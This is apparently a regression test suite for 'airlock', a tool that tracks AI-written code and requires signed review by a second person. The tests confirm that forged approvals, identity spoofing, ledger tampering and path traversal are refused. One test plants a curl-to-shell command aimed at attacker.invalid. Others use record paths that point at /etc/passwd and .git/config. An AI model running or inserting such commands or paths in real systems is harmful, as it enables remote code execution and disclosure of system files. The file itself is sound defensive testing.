// Review you can trust: every bypass of issue 13 on real git repositories in temp folders, with
// real ssh-keygen keys and signatures, through the built dist/cli.js. Each test fails on the
// code before the fix (the check passed, crashed or wrote the attacker's code) and passes now.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { appendFileSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { exactHash } from '../../../extension/core/provenance/hash';
import { parseLedger, serializeRecord, type ContributionRecord, type ReviewRecord } from '../../../extension/core/ledger/records';
import { ROOT, airlock, allowedSigners, git, keygen, temp, write, type Key } from './repoSupport';

before(() => {
  spawnSync(process.execPath, ['esbuild.mjs'], { cwd: ROOT, stdio: 'inherit' });
});

const LEDGER = '.airlock/ledger/ledger.jsonl';
const keyDir = () => temp('airlock-keys-');

/** Who is at the keyboard: git identity and SSH signing key. */
function as(dir: string, who: { name: string; email: string; key?: Key }): void {
  git(dir, 'config', 'user.name', who.name);
  git(dir, 'config', 'user.email', who.email);
  if (who.key) {
    git(dir, 'config', 'gpg.format', 'ssh');
    git(dir, 'config', 'user.signingkey', who.key.private);
  } else spawnSync('git', ['config', '--unset', 'user.signingkey'], { cwd: dir });
}

const STRICT = `{
  "extends": ["airlock:secrets"],
  "review": [
    { "id": "no-ai-code-in-tests", "paths": ["test/**"], "action": "forbid" },
    { "id": "human-approval", "paths": ["**"], "action": "require-approval", "distinctReviewer": true, "signatures": "required", "allowedSigners": ".airlock/allowed_signers" }
  ]
}
`;

const aiBlock = ['export function priceWithTax(net: number): number {', '  const rate = lookupRate("DE");', '  const gross = net * (1 + rate);', '  return Math.round(gross * 100) / 100;', '}'];
const baseFile = Array.from({ length: 8 }, (_, i) => `const base${i + 1} = baseValue(${i + 1});`);

interface Setup {
  dir: string;
  keys: { alice: Key; bob: Key; carol: Key };
  alice: { name: string; email: string; key: Key };
  bob: { name: string; email: string; key: Key };
}

/**
 * main: the strict policy, allowed signers (alice, bob), src/app.ts and one reviewed AI
 * contribution (so the base ledger has records). pr: alice adds AI code, records it, commits.
 */
function setup(policy = STRICT): Setup {
  const dir = temp('airlock-trust-');
  const kd = keyDir();
  const keys = { alice: keygen(kd, 'alice@example.com'), bob: keygen(kd, 'bob@example.com'), carol: keygen(kd, 'carol@example.com') };
  const alice = { name: 'Alice Author', email: 'alice@example.com', key: keys.alice };
  const bob = { name: 'Bob Reviewer', email: 'bob@example.com', key: keys.bob };
  git(dir, 'init', '-q', '-b', 'main');
  git(dir, 'config', 'commit.gpgsign', 'false');
  as(dir, alice);
  write(dir, '.airlock/policy.jsonc', policy);
  write(dir, '.airlock/allowed_signers', allowedSigners(keys.alice, keys.bob));
  write(dir, 'src/app.ts', baseFile.join('\n') + '\n');
  write(dir, 'src/old.ts', 'export const first = 1;\n');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'base');
  // A reviewed AI contribution already on main.
  write(dir, 'src/old.ts', 'export const first = 1;\nexport const second = computeSecond(first);\n');
  assert.equal(airlock(dir, ['record', '--file', 'src/old.ts', '--lines', '2', '--tool', 'copilot']).status, 0);
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'ai on main');
  as(dir, bob);
  const approved = airlock(dir, ['review', 'approve', 'src/old.ts:2']);
  assert.equal(approved.status, 0, approved.stderr);
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'bob approves');
  assert.deepEqual(range(dir, 'main~2..main').problems.filter((p) => !p.endsWith('undisclosed')), []);

  git(dir, 'checkout', '-qb', 'pr');
  as(dir, alice);
  write(dir, 'src/app.ts', [...baseFile.slice(0, 4), ...aiBlock, ...baseFile.slice(4)].join('\n') + '\n');
  assert.equal(airlock(dir, ['record', '--file', 'src/app.ts', '--lines', '5-9', '--tool', 'claude-code', '--model', 'claude-sonnet-4']).status, 0);
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'ai code');
  return { dir, keys, alice, bob };
}

interface RangeResult {
  status: number | null;
  problems: string[];
  reviews: { record: string; reviewer: string; reason: string }[];
  stderr: string;
}

function range(cwd: string, spec = 'main..pr', extra: string[] = []): RangeResult {
  const r = airlock(cwd, ['check', '--range', spec, '--format', 'json', ...extra]);
  assert.ok(r.status === 0 || r.status === 1, `check exited ${r.status}: ${r.stderr}`);
  const parsed = JSON.parse(r.stdout) as { ok: boolean; violations: { path: string; startLine: number; endLine: number; kind: string; record?: string }[]; reviews: RangeResult['reviews'] };
  assert.equal(r.status, parsed.ok ? 0 : 1);
  return {
    status: r.status,
    problems: parsed.violations.map((v) => `${v.path}:${v.startLine}-${v.endLine} ${v.kind}${v.kind === 'tampered' && v.record ? ` ${v.record}` : ''}`),
    reviews: parsed.reviews,
    stderr: r.stderr,
  };
}

function commitAll(dir: string, message: string): void {
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', message);
}

function ledgerRecords(dir: string) {
  return parseLedger(readFileSync(join(dir, LEDGER), 'utf8')).records;
}

test('a hand-written approval (unsigned, or signed by a key not allowed) does not count; a signed one by a second person does', () => {
  const { dir, keys, bob } = setup();
  assert.deepEqual(range(dir).problems, ['src/app.ts:5-9 unreviewed']);

  // 1. Append an approval record by hand, naming bob, no signature.
  const contribution = ledgerRecords(dir).find((r): r is ContributionRecord => r.type === 'contribution' && r.path === 'src/app.ts')!;
  const lines = readFileSync(join(dir, 'src/app.ts'), 'utf8').split('\n');
  const forged = { airlock: 1, type: 'review', id: 'forged-1', time: new Date().toISOString(), decision: 'approve', reviewer: { name: 'Bob Reviewer', email: bob.email }, path: 'src/app.ts', startLine: 5, endLine: 9, lines: [{ root: contribution.id, x: [] as string[] }], contentHash: 'x' } as ReviewRecord;
  // The exact hashes the CLI would write.
  forged.lines[0]!.x = lines.slice(4, 9).map(exactHash);
  appendFileSync(join(dir, LEDGER), serializeRecord(forged));
  commitAll(dir, 'lgtm');
  let r = range(dir);
  assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed']);
  assert.match(r.reviews.find((n) => n.record === 'forged-1')!.reason, /unsigned/);

  // 2. Carol (not in the allowed signers on main) signs; adding her key in the PR does not help.
  as(dir, { name: 'Carol', email: keys.carol.email, key: keys.carol });
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  appendFileSync(join(dir, '.airlock/allowed_signers'), allowedSigners(keys.carol));
  commitAll(dir, 'carol approves and trusts herself');
  r = range(dir);
  assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed']);
  assert.ok(r.reviews.some((n) => n.reviewer === keys.carol.email && /not in the allowed signers/.test(n.reason)), JSON.stringify(r.reviews));

  // 3. A signed approval edited afterwards (another line's hash slipped in) no longer verifies.
  as(dir, bob);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  const text = readFileSync(join(dir, LEDGER), 'utf8').trimEnd().split('\n');
  const last = JSON.parse(text[text.length - 1]!) as ReviewRecord;
  assert.match(last.signature!, /BEGIN SSH SIGNATURE/);
  const tampered = { ...last, id: 'edited-1', startLine: 1 };
  writeFileSync(join(dir, LEDGER), [...text.slice(0, -1), JSON.stringify(tampered)].join('\n') + '\n');
  commitAll(dir, 'edited signed approval');
  r = range(dir);
  assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed']);
  assert.match(r.reviews.find((n) => n.record === 'edited-1')!.reason, /does not verify/);

  // 4. Bob really approves, signed with his key: the check passes.
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'bob approves');
  assert.deepEqual(range(dir).problems, []);
});

test('approving your own AI lines: setting git config user.email to someone else does not make you a second person', () => {
  const { dir, keys, alice } = setup();
  // Alice claims to be bob, signs with her own key: signer alice != named reviewer bob.
  as(dir, { name: 'Bob Reviewer', email: 'bob@example.com', key: keys.alice });
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'approve as "bob"');
  let r = range(dir);
  assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed']);
  assert.ok(r.reviews.some((n) => /signed by alice@example.com, but the record names bob@example.com/.test(n.reason)), JSON.stringify(r.reviews));

  // Alice approves as herself, signed: the signer brought the lines in (git blame -> her commit).
  as(dir, alice);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'self approval');
  r = range(dir);
  assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed']);
  assert.ok(r.reviews.some((n) => n.reviewer === 'alice@example.com' && /distinct reviewer/.test(n.reason)), JSON.stringify(r.reviews));
});

test('a signed commit with a forged author is still its signer\'s: the signer cannot approve it', () => {
  const { dir, keys, bob } = setup();
  // Alice signs her commits (commit signature with her key) but sets bob as the author.
  git(dir, 'config', 'commit.gpgsign', 'true');
  write(dir, 'src/extra.ts', ['export function extra(a: number) {', '  const doubled = a * 2;', '  return doubled + 1;', '}'].join('\n') + '\n');
  assert.equal(airlock(dir, ['record', '--file', 'src/extra.ts', '--lines', '1-4', '--tool', 'copilot']).status, 0);
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'extra', '--author', 'Bob Reviewer <bob@example.com>');
  git(dir, 'config', 'commit.gpgsign', 'false');
  // "bob" is now the recorded author; alice signs an approval as alice. The commit's SSH signature
  // (alice's key) makes her one of its authors for the rule, whatever --author says.
  assert.equal(airlock(dir, ['review', 'approve', 'src/extra.ts:1-4']).status, 0);
  commitAll(dir, 'alice approves "bob\'s" code');
  let r = range(dir);
  assert.ok(r.problems.includes('src/extra.ts:1-4 unreviewed'), r.problems.join());
  assert.ok(r.reviews.some((n) => n.reviewer === 'alice@example.com' && /distinct reviewer/.test(n.reason)), JSON.stringify(r.reviews));
  // Bob is named as the author, so his approval is a self-approval too (as for a patch alice
  // applied for him with git am): it takes a third person. Alice's own commit, bob may approve.
  as(dir, bob);
  assert.equal(airlock(dir, ['review', 'approve', 'src/extra.ts:1-4']).status, 0);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'bob approves');
  r = range(dir);
  assert.deepEqual(r.problems, ['src/extra.ts:1-4 unreviewed']);
  void keys;
});

test('the same verdict from a checkout of main and from a bare repository', () => {
  const { dir, bob } = setup();
  git(dir, 'checkout', '-q', 'main');
  // The work tree is main's: its ledger has no record of the PR's AI code, yet the PR is judged.
  assert.deepEqual(range(dir).problems, ['src/app.ts:5-9 unreviewed']);
  const bare = join(temp('airlock-bare-'), 'repo.git');
  git(dir, 'clone', '-q', '--bare', dir, bare);
  assert.deepEqual(range(bare).problems, ['src/app.ts:5-9 unreviewed']);

  git(dir, 'checkout', '-q', 'pr');
  as(dir, bob);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'bob approves');
  git(dir, 'checkout', '-q', 'main');
  assert.deepEqual(range(dir).problems, []);
  git(bare, 'fetch', '-q', dir, 'pr:pr');
  assert.deepEqual(range(bare).problems, []);
});

test('deleting, truncating, rewriting or garbling the ledger in the PR is tampered, naming the record', () => {
  const base = setup();
  const baseRecords = ledgerRecords(base.dir);
  const approval = baseRecords.find((r) => r.type === 'review')!;
  const mainContribution = baseRecords.find((r) => r.type === 'contribution' && r.path === 'src/old.ts')!;

  const variant = (name: string, change: (ledger: string) => string | undefined) => {
    git(base.dir, 'checkout', '-q', '-B', name, 'pr');
    const text = readFileSync(join(base.dir, LEDGER), 'utf8');
    const next = change(text);
    if (next === undefined) rmSync(join(base.dir, LEDGER));
    else writeFileSync(join(base.dir, LEDGER), next);
    commitAll(base.dir, name);
    return range(base.dir, `main..${name}`);
  };
  const lines = (text: string) => text.trimEnd().split('\n');

  let r = variant('deleted', () => undefined);
  assert.ok(r.problems.some((p) => /tampered/.test(p)), r.problems.join());
  r = variant('truncated', (t) => lines(t).slice(0, 1).join('\n') + '\n');
  assert.ok(r.problems.includes(`${LEDGER}:2-2 tampered ${approval.id}`) || r.problems.some((p) => p.endsWith(`tampered ${approval.id}`)), r.problems.join());
  r = variant('rewritten', (t) => t.replace('"name":"Bob Reviewer"', '"name":"Bob R."'));
  assert.ok(r.problems.some((p) => p.endsWith(`tampered ${approval.id}`)), r.problems.join());
  r = variant('garbled', (t) => {
    const l = lines(t);
    l[0] = l[0]!.slice(0, 60) + '#garbage';
    return l.join('\n') + '\n';
  });
  assert.ok(r.problems.some((p) => p.endsWith(`tampered ${mainContribution.id}`)), r.problems.join());
  // A wrong-shaped record (lines: [null]) is reported with its line, skipped, and never crashes.
  r = variant('null-lines', (t) => t + JSON.stringify({ airlock: 1, type: 'contribution', id: 'nully', time: '2026-01-01T00:00:00Z', path: 'src/app.ts', startLine: 1, endLine: 1, lines: [null], contentHash: 'x', tool: 'x', channel: 'cli', confidence: 1 }) + '\n');
  assert.ok(r.problems.some((p) => p.endsWith('tampered nully')), r.problems.join());
  assert.match(r.stderr, /ledger\.jsonl:\d+: wrong-shaped record \(lines\)/);
  // Locally too: `check` (work tree) reports it and carries on (exit 1 for the AI code, not 3).
  const local = airlock(base.dir, ['check', '--format', 'json']);
  assert.equal(local.status, 1, local.stderr);
  assert.match(local.stderr, /wrong-shaped record/);
});

test('a forged reject does not lift a forbid, and rejected code brought back (undo, git checkout) is flagged', () => {
  const { dir, alice } = setup();
  // AI code in a test file (forbidden), then a hand-written reject record that removes nothing.
  const aiTest = ['test("price with tax", () => {', '  const result = priceWithTax(100);', '  assert.equal(result, 119);', '  assert.ok(result > 100);', '});'];
  write(dir, 'test/price.test.ts', aiTest.join('\n') + '\n');
  assert.equal(airlock(dir, ['record', '--file', 'test/price.test.ts', '--lines', '1-5', '--tool', 'copilot']).status, 0);
  const c = ledgerRecords(dir).find((r): r is ContributionRecord => r.type === 'contribution' && r.path === 'test/price.test.ts')!;
  appendFileSync(join(dir, LEDGER), serializeRecord({ airlock: 1, type: 'review', id: 'forged-reject', time: new Date().toISOString(), decision: 'reject', reviewer: { name: 'x', email: 'x@example.com' }, path: c.path, startLine: 1, endLine: 5, lines: [{ root: c.id, x: [] }], contentHash: 'x' }));
  commitAll(dir, 'forbidden code, "rejected"');
  const forged = range(dir).problems;
  assert.deepEqual(forged, ['src/app.ts:5-9 unreviewed', 'test/price.test.ts:1-5 rejected-reintroduced']);

  // Reject for real, then Ctrl+Z (the text written back) outside any recorder.
  const local = setup();
  as(local.dir, alice);
  const before = readFileSync(join(local.dir, 'src/app.ts'), 'utf8');
  assert.equal(airlock(local.dir, ['review', 'reject', 'src/app.ts:5-9']).status, 0);
  assert.equal(readFileSync(join(local.dir, 'src/app.ts'), 'utf8'), baseFile.join('\n') + '\n');
  assert.deepEqual(JSON.parse(airlock(local.dir, ['check', '--format', 'json']).stdout).violations, []);
  writeFileSync(join(local.dir, 'src/app.ts'), before);
  assert.deepEqual(JSON.parse(airlock(local.dir, ['check', '--format', 'json']).stdout).violations.map((v: { kind: string }) => v.kind), ['rejected-reintroduced']);
  // ... or with git checkout of the committed AI version.
  git(local.dir, 'checkout', '--', '.airlock');
  assert.equal(airlock(local.dir, ['review', 'reject', 'src/app.ts:5-9']).status, 0);
  git(local.dir, 'checkout', 'HEAD', '--', 'src/app.ts');
  assert.deepEqual(JSON.parse(airlock(local.dir, ['check', '--format', 'json']).stdout).violations.map((v: { kind: string }) => v.kind), ['rejected-reintroduced']);
  // In CI as well, once committed.
  commitAll(local.dir, 'reject, then bring it back');
  assert.deepEqual(range(local.dir).problems, ['src/app.ts:5-9 rejected-reintroduced']);
});

test('an update record cannot make AI code that is still there stop being AI', () => {
  const { dir } = setup();
  const c = ledgerRecords(dir).find((r): r is ContributionRecord => r.type === 'contribution' && r.path === 'src/app.ts')!;
  appendFileSync(join(dir, LEDGER), serializeRecord({ airlock: 1, type: 'update', id: 'forged-update', time: new Date().toISOString(), replaces: [c.id], root: c.id, spans: [], reason: 'edited' }));
  commitAll(dir, 'a human "rewrote" it');
  assert.deepEqual(range(dir).problems, ['src/app.ts:5-9 unreviewed']);
});

test('a forged baseline cannot make the reviewer\'s reject write attacker code', () => {
  const { dir } = setup();
  const text = readFileSync(join(dir, LEDGER), 'utf8').trimEnd().split('\n');
  const at = text.findIndex((l) => l.includes('"path":"src/app.ts"'));
  const record = JSON.parse(text[at]!) as ContributionRecord;
  const planted = 'require("child_process").exec("curl https://attacker.invalid | sh");\n';
  text[at] = JSON.stringify({ ...record, baseline: planted });
  writeFileSync(join(dir, LEDGER), text.join('\n') + '\n');
  const before = readFileSync(join(dir, 'src/app.ts'), 'utf8');
  const r = airlock(dir, ['review', 'reject', 'src/app.ts:5-9']);
  assert.equal(r.status, 1);
  assert.match(r.stderr, /refusing to reject/);
  assert.equal(readFileSync(join(dir, 'src/app.ts'), 'utf8'), before);
  assert.ok(!readFileSync(join(dir, 'src/app.ts'), 'utf8').includes('child_process'));
});

test('records naming paths outside the repository are refused, also through a symlink', () => {
  const { dir } = setup();
  const outside = temp('airlock-outside-');
  writeFileSync(join(outside, 'secret.txt'), 'const token = readTheSecret();\nconst other = 2;\n');
  symlinkSync(outside, join(dir, 'src/link'));
  const make = (id: string, path: string) =>
    serializeRecord({ airlock: 1, type: 'contribution', id, time: new Date().toISOString(), path, startLine: 1, endLine: 1, lines: [{ a: 'ffffffffffff' }], contentHash: 'x', tool: 'probe', channel: 'cli', confidence: 1 } as ContributionRecord);
  appendFileSync(join(dir, LEDGER), make('up', '../../etc/passwd') + make('abs', '/etc/passwd') + make('link', 'src/link/secret.txt') + make('dotgit', '.git/config'));
  const r = airlock(dir, ['check', '--all', '--format', 'json']);
  assert.equal(r.status, 1, r.stderr);
  const violations = JSON.parse(r.stdout).violations as { path: string }[];
  assert.ok(violations.every((v) => !v.path.includes('passwd') && !v.path.includes('link') && !v.path.includes('.git/')), JSON.stringify(violations));
  assert.equal((r.stderr.match(/path is not inside the repository/g) ?? []).length, 3);
  // The symlinked one is well-formed but never read: the CLI refuses to leave the repository.
  assert.equal(airlock(dir, ['review', 'approve', 'src/link/secret.txt:1-1']).status, 2);
  assert.equal(airlock(dir, ['record', '--file', 'src/link/secret.txt', '--lines', '1', '--tool', 'x']).status, 2);
});

test('renaming every identifier on the AI lines, or copying the AI code into a new file, keeps it AI', () => {
  const { dir } = setup();
  // Rename identifiers on every AI line, outside the editor, and commit.
  const renamed = readFileSync(join(dir, 'src/app.ts'), 'utf8').replace(/priceWithTax/g, 'grossPrice').replace(/\bnet\b/g, 'amount').replace(/\brate\b/g, 'vat').replace(/\bgross\b/g, 'total').replace(/lookupRate/g, 'vatFor');
  write(dir, 'src/app.ts', renamed);
  commitAll(dir, 'rename');
  assert.deepEqual(range(dir).problems, ['src/app.ts:5-9 unreviewed']);
  // Copy it into a new file with cp (no recorder saw it).
  write(dir, 'src/copy.ts', `// helpers\n${aiBlock.join('\n')}\n`);
  commitAll(dir, 'copy');
  assert.deepEqual(range(dir).problems, ['src/app.ts:5-9 unreviewed', 'src/copy.ts:2-6 unreviewed']);
  assert.deepEqual(JSON.parse(airlock(dir, ['check', '--range', 'main..pr', '--format', 'json']).stdout).violations.find((v: { path: string }) => v.path === 'src/copy.ts').tool, 'claude-code');
});

test('disclosure: commits bringing AI lines need the trailer; the prepare-commit-msg hook adds it', () => {
  const policy = STRICT.replace('"allowedSigners": ".airlock/allowed_signers" }', '"allowedSigners": ".airlock/allowed_signers", "disclosure": "Assisted-by" }');
  const { dir, bob, alice } = setup(policy);
  const keysOf = (_: string) => alice.key;
  as(dir, bob);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'bob approves');
  const r = airlock(dir, ['check', '--range', 'main..pr', '--format', 'json']);
  const undisclosed = JSON.parse(r.stdout).violations.filter((v: { kind: string }) => v.kind === 'undisclosed');
  assert.equal(undisclosed.length, 1);
  assert.equal(undisclosed[0].commit, git(dir, 'rev-parse', 'pr~1').trim());

  // With the hooks installed, the next AI commit gets `Assisted-by: claude-code:claude-sonnet-4`.
  git(dir, 'checkout', '-q', '-b', 'pr2', 'main');
  assert.equal(airlock(dir, ['hooks', 'install']).status, 0);
  write(dir, 'src/app.ts', [...baseFile.slice(0, 2), ...aiBlock, ...baseFile.slice(2)].join('\n') + '\n');
  as(dir, { name: 'Alice Author', email: 'alice@example.com', key: keysOf(dir) });
  assert.equal(airlock(dir, ['record', '--file', 'src/app.ts', '--lines', '3-7', '--tool', 'claude-code', '--model', 'claude-sonnet-4']).status, 0);
  as(dir, bob);
  const approve = airlock(dir, ['review', 'approve', 'src/app.ts:3-7']); // bob at this keyboard (pair review)
  assert.equal(approve.status, 0, approve.stderr);
  git(dir, 'add', '-A');
  const commit = spawnSync('git', ['commit', '-qm', 'AI change'], { cwd: dir, encoding: 'utf8' });
  assert.equal(commit.status, 0, commit.stdout + commit.stderr);
  assert.match(git(dir, 'log', '-1', '--format=%B'), /^Assisted-by: claude-code:claude-sonnet-4$/m);
  const again = range(dir, 'main..pr2');
  assert.ok(!again.problems.some((p) => p.includes('undisclosed')), again.problems.join() + git(dir, 'log', '--stat', '--format=%H %s', 'main..pr2'));
});

test('git-ai authorship notes (refs/notes/ai, authorship/3.0.0) count as AI lines, and a signed review clears them', () => {
  const { dir, bob } = setup();
  const gen = ['export function slugify(title: string): string {', '  const lower = title.toLowerCase();', '  const dashed = lower.replace(/[^a-z0-9]+/g, "-");', '  return dashed.replace(/^-|-$/g, "");', '}'];
  write(dir, 'src/gen.ts', gen.join('\n') + '\n');
  commitAll(dir, 'written with cursor (git-ai attached a note)');
  const session = 'abcd1234abcd1234';
  const log = `src/gen.ts\n  ${session} 1-5\n---\n${JSON.stringify({ schema_version: 'authorship/3.0.0', git_ai_version: '1.0.23', base_commit_sha: git(dir, 'rev-parse', 'HEAD~1').trim(), prompts: { [session]: { agent_id: { tool: 'cursor', id: 'conv-1', model: 'claude-4.5-opus' }, human_author: 'Alice Author <alice@example.com>', messages: [], total_additions: 5, total_deletions: 0, accepted_lines: 5, overriden_lines: 0 } } }, null, 2)}\n`;
  git(dir, 'notes', '--ref=ai', 'add', '-m', log, 'HEAD');
  const r = airlock(dir, ['check', '--range', 'main..pr', '--format', 'json']);
  const gitAi = JSON.parse(r.stdout).violations.find((v: { path: string }) => v.path === 'src/gen.ts');
  assert.deepEqual([gitAi.startLine, gitAi.endLine, gitAi.kind, gitAi.tool, gitAi.model], [1, 5, 'unreviewed', 'cursor', 'claude-4.5-opus']);
  // Also in a bare clone that fetched the notes.
  const bare = join(temp('airlock-bare-'), 'repo.git');
  git(dir, 'clone', '-q', '--bare', dir, bare);
  git(bare, 'fetch', '-q', dir, 'refs/notes/ai:refs/notes/ai');
  assert.ok(range(bare).problems.includes('src/gen.ts:1-5 unreviewed'));
  as(dir, bob);
  assert.equal(airlock(dir, ['review', 'approve', 'src/gen.ts:1-5']).status, 0);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:5-9']).status, 0);
  commitAll(dir, 'bob approves');
  assert.deepEqual(range(dir).problems, []);
});

test('locally, the ledger about to be committed must keep every committed record (check --staged)', () => {
  const { dir } = setup();
  const text = readFileSync(join(dir, LEDGER), 'utf8').split('\n');
  writeFileSync(join(dir, LEDGER), text.slice(1).join('\n'));
  git(dir, 'add', LEDGER);
  const r = airlock(dir, ['check', '--staged', '--format', 'json']);
  assert.equal(r.status, 1);
  assert.deepEqual(JSON.parse(r.stdout).violations.map((v: { kind: string }) => v.kind), ['tampered']);
  // And the work tree (check --all) says so too.
  assert.ok(JSON.parse(airlock(dir, ['check', '--all', '--format', 'json']).stdout).violations.some((v: { kind: string }) => v.kind === 'tampered'));
});

test('strict, end to end: the author approves to commit, CI still wants a second person\'s signature', () => {
  const { dir, alice, bob } = setup();
  git(dir, 'checkout', '-q', '-b', 'feature', 'main');
  as(dir, alice);
  write(dir, 'src/app.ts', [...baseFile.slice(0, 1), ...aiBlock, ...baseFile.slice(1)].join('\n') + '\n');
  assert.equal(airlock(dir, ['record', '--file', 'src/app.ts', '--lines', '2-6', '--tool', 'copilot']).status, 0);
  assert.match(airlock(dir, ['review', 'approve', 'src/app.ts:2-6']).stdout, /\(signed\)/);
  git(dir, 'add', '-A');
  const staged = airlock(dir, ['check', '--staged', '--format', 'json']);
  assert.equal(staged.status, 0, staged.stdout);
  git(dir, 'commit', '-qm', 'feature with AI code');
  const ci = range(dir, 'main..feature');
  assert.deepEqual(ci.problems, ['src/app.ts:2-6 unreviewed']);
  assert.ok(ci.reviews.some((n) => n.reviewer === alice.email && /distinct reviewer/.test(n.reason)), JSON.stringify(ci.reviews));
  as(dir, bob);
  assert.equal(airlock(dir, ['review', 'approve', 'src/app.ts:2-6']).status, 0);
  commitAll(dir, 'review');
  assert.deepEqual(range(dir, 'main..feature').problems, []);
});
